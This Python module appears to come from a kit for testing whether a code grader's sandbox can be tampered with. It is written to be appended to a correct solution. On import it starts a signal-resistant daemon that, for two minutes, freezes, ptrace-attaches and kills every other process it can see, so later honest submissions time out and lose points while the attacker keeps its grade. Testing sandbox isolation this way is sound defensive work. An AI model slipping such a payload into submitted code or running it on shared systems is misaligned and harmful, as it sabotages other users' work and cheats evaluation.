"""[attnkit-tamper] signal_ptrace_daemon -- family (d): freeze or kill other submissions' processes.

Append to a correct stage module, preferably the last one graded (attacker: the solution of
s11_other_forms). At import it double-forks a ``setsid`` daemon (SIGTERM, SIGHUP, SIGINT, SIGQUIT,
SIGPIPE, SIGUSR1/2, SIGALRM ignored; every blockable signal blocked) that, for 120 s, goes over
every process it can see in /proc (sparing itself and the worker that started it, so that the
attacker keeps its own grade) and tries SIGSTOP, PTRACE_ATTACH (ctypes ptrace) and SIGKILL on
each, every 50 ms. A process it stops or attaches to stays frozen (the daemon never detaches):
a later (honest) submission's worker would hit the time limit or die and lose its points.

It reports once on stderr what it saw and what each attempt returned ("[signals] ..."). Victim:
a correct submission graded after it (honest grade: full marks).

Old design: the daemon lives in the sandbox's pid namespace, sees only the zygote (pid 1: init
ignores signals it has no handler for, and it is not dumpable, so ptrace fails) and the worker,
and is killed by the zygote's kill -1 when the worker leaves: expected NO effect on the victim.

Needs the prelude daemon_common before it (kit_tests/tamper.py, PRELUDES), for _atk_daemon.
"""


def _atk_signal_ptrace_daemon():
    import ctypes
    import errno
    import os
    import signal
    import sys
    import time

    worker = os.getpid()

    def freeze_and_kill():
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        libc.ptrace.restype = ctypes.c_long
        spare = {os.getpid(), worker}
        report, attached = {}, set()
        deadline = time.monotonic() + 120.0
        reported = False
        while time.monotonic() < deadline:
            for entry in os.listdir("/proc"):
                if not entry.isdigit() or int(entry) in spare:
                    continue
                pid = int(entry)
                outcome = []
                for what, number in (("SIGSTOP", signal.SIGSTOP), ("SIGKILL", signal.SIGKILL)):
                    if what == "SIGKILL":
                        if pid not in attached:
                            result = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
                            code = ctypes.get_errno()
                            outcome.append("ptrace " + ("ok" if result == 0 else errno.errorcode.get(code, str(code))))
                            if result == 0:
                                attached.add(pid)
                    try:
                        os.kill(pid, number)
                        outcome.append(f"{what} sent")
                    except OSError as exc:
                        outcome.append(f"{what} {errno.errorcode.get(exc.errno, exc.errno)}")
                report.setdefault(pid, outcome)
            if not reported and report:
                sys.stderr.write(f"[signals] uid {os.getuid()} pid {os.getpid()}: {report}\n")
                sys.stderr.flush()
                reported = True
            time.sleep(0.05)

    _atk_daemon(freeze_and_kill)


_atk_signal_ptrace_daemon()
